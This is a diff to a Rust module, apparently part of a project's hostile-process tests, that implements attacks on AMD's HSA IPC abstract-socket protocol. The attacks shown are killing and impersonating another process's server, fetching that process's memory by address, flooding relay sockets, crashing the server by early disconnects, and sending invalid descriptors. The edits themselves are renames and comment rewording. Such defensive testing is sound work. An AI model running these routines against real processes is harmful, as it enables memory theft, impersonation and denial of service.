@@ -1,4 +1,4 @@
-//! Attacks of a hostile process on AMD's protocol, which uses the abstract sockets `hsa<process>`.
+//! Attacks of a hostile process on AMD's protocol for IPC. The protocol uses abstract sockets named `hsa<process>`.
 
 use hsa_vmm::ipc::IpcHandle;
 use rustix::net::{
@@ -14,15 +14,15 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::{Duration, Instant};
 
 const TIME_LIMIT: Duration = Duration::from_secs(20);
-/// The size of a request to AMD's server.
-const REQUEST: usize = 64;
-/// Process IDs are smaller than this number.
+/// The size of a request to AMD's server, in bytes.
+const REQUEST_SIZE: usize = 64;
+/// Every process ID is smaller than this number (`PID_MAX_LIMIT`).
 const PROCESS_NUMBER_LIMIT: i64 = 1 << 22;
 /// The request that ends AMD's server.
 const END_REQUEST: u64 = u64::MAX;
 
 fn server_address(process: i32) -> SocketAddr {
-    // An abstract name of the greatest size, padded with zeros.
+    // AMD's runtime pads the abstract name with zeros to its greatest size.
     let mut name = [0; 107];
     let text = format!("hsa{process}");
     name[..text.len()].copy_from_slice(text.as_bytes());
@@ -33,8 +33,8 @@ fn connect(process: i32) -> std::io::Result<UnixStream> {
     UnixStream::connect_addr(&server_address(process))
 }
 
-fn request(pointer: u64) -> [u8; REQUEST] {
-    let mut request = [0; REQUEST];
+fn request(pointer: u64) -> [u8; REQUEST_SIZE] {
+    let mut request = [0; REQUEST_SIZE];
     let text = pointer.to_string();
     request[..text.len()].copy_from_slice(text.as_bytes());
     request
@@ -53,8 +53,9 @@ fn fetch(handle: &IpcHandle) -> OwnedFd {
     descriptor
 }
 
-/// Fetches the memory at an address from AMD's server, which holds its lock while it waits on the connection.
-/// Returns `None` if there is no server, or it sends nothing.
+/// Fetches the memory at an address from AMD's server. Returns `None` if there is no server, or if the server sends
+/// nothing. The server holds its lock until the caller writes an acknowledgement to the returned connection, or closes
+/// the connection.
 pub fn request_memory(process: i32, pointer: u64) -> Option<(UnixStream, OwnedFd)> {
     let mut stream = connect(process).ok()?;
     stream.write_all(&request(pointer)).expect("the server reads");
@@ -90,8 +91,8 @@ fn bind_name(process: i32) -> UnixListener {
     }
 }
 
-/// Ends another process's server and binds the server's name. From then on, sends the memory of the handle `own` to
-/// every client.
+/// Ends the server of another process, and binds its name. From then on, sends the memory of the handle `own` to every
+/// client.
 pub fn replace_server(process: i32, own: &IpcHandle) {
     let mut stream = connect(process).expect("a server");
     stream.write_all(&request(END_REQUEST)).expect("the server reads");
@@ -100,7 +101,7 @@ pub fn replace_server(process: i32, own: &IpcHandle) {
     let memory = fetch(own);
     std::thread::spawn(move || {
         while let Ok((mut stream, _)) = listener.accept() {
-            let mut request = [0; REQUEST];
+            let mut request = [0; REQUEST_SIZE];
             // A library that checks the server disconnects without a request.
             if stream.read(&mut request).is_ok_and(|read| read > 0) {
                 send_descriptor(&stream, &memory);
@@ -118,8 +119,8 @@ pub fn bind_relay_names(process: i32) {
     std::mem::forget(names.collect::<Vec<_>>());
 }
 
-/// The sum, over all rounds, of the connections that `connect_to_relays` holds. Not zero after the first connection.
-pub static FLOODED: AtomicUsize = AtomicUsize::new(0);
+/// Zero until `connect_to_relays` has connected to a relay.
+pub static CONNECTIONS: AtomicUsize = AtomicUsize::new(0);
 
 /// Connects to all relays of other processes repeatedly, until this process ends.
 pub fn connect_to_relays() {
@@ -136,7 +137,7 @@ pub fn connect_to_relays() {
             });
             for number in numbers {
                 connected.extend((0..8).filter_map(|_| connect(number).ok()));
-                FLOODED.fetch_add(connected.len(), Ordering::Relaxed);
+                CONNECTIONS.fetch_add(connected.len(), Ordering::Relaxed);
             }
             let excess = connected.len().saturating_sub(64);
             connected.drain(..excess);
@@ -144,23 +145,24 @@ pub fn connect_to_relays() {
     });
 }
 
-/// Requests memory from AMD's server and disconnects without reading the reply, up to `times` times. The server ends if
-/// a client disconnects after the reply was sent. This function then returns early.
+/// Requests memory from AMD's server and disconnects without reading the reply, up to `times` times. If a client
+/// disconnects after the reply was sent, the server ends, and this function returns early.
 pub fn disconnect_before_reply(handle: &IpcHandle, times: usize) {
     for _ in 0..times {
         let Ok(mut stream) = connect(handle.process) else { return };
-        // The server may have ended meanwhile, with the connection in its queue.
+        // The write fails if the server has ended before it accepted the connection.
         let _ = stream.write_all(&request(requested_address(handle)));
     }
 }
 
-/// Listens at this process's socket, sends a descriptor that is not memory, and disconnects at once.
+/// Listens at the socket name of this process. Sends each client a descriptor that is not memory, and disconnects at
+/// once.
 pub fn send_invalid_descriptor() {
     let listener = bind_name(std::process::id() as i32);
     std::thread::spawn(move || {
         let null = std::fs::File::open("/dev/null").expect("/dev/null exists");
         while let Ok((mut stream, _)) = listener.accept() {
-            if stream.read(&mut [0; REQUEST]).is_ok_and(|read| read > 0) {
+            if stream.read(&mut [0; REQUEST_SIZE]).is_ok_and(|read| read > 0) {
                 send_descriptor(&stream, &null);
             }
         }
